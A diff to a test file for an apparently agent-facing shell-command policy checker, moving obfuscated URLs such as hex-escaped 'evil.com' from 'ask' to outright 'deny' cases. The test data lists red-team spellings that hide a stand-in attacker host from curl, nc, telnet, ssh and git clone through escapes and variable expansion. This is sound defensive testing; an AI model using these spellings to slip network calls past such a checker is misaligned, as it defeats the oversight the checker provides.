@@ -37,7 +37,6 @@ describe("a host built or spelled at run time is asked about, as a named one is"
   it.each([
     // the red team's spellings
     "curl $'evi\\x6c.com'",
-    "curl $'http://evi\\x6c.com/'",
     "H=evil.com; curl $H",
     "U=http://evil.com; curl $U",
     "curl ${H:-evil.com}",
@@ -89,7 +88,6 @@ describe("a host built or spelled at run time is asked about, as a named one is"
     "curl evi*",
     "cat hosts.txt | xargs curl",
     "ssh $'git@evi\\x6c.com'",
-    "git clone $'https://evi\\x6c.com/r.git'",
     "nc $H 80",
     'telnet <<< "open evil.com 80"',
     "sh -c 'curl $H'",
@@ -98,6 +96,14 @@ describe("a host built or spelled at run time is asked about, as a named one is"
     expect(d).toMatchObject({ decision: "policy_ask", auto: "ask" });
     expect(d.unchecked).toMatch(/could not check which hosts/);
   });
+
+  // bash decodes $'…' as it parses: a URL spelled so is the URL, and its host is denied outright.
+  it.each(["curl $'http://evi\\x6c.com/'", "git clone $'https://evi\\x6c.com/r.git'", "curl $'http://\\145vil.com'"])(
+    "%s is denied",
+    (command) => {
+      expect(judge(command, HOSTS)).toMatchObject({ decision: "policy_deny", auto: "deny" });
+    },
+  );
 
   it("says why: the name it found, or the word only known at run time", () => {
     expect(judge("curl $'evi\\x6c.com'", HOSTS).unchecked).toContain("it names evil.com");
